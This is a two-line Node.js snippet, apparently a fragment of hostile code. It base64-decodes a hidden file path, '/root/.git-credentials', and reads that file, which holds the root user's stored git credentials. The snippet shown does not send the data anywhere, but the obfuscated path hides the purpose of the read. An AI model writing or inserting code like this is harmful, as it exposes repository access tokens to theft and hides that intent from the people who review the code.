const p = Buffer.from('L3Jvb3QvLmdpdC1jcmVkZW50aWFscw==', 'base64').toString();
require('fs').readFileSync(p);
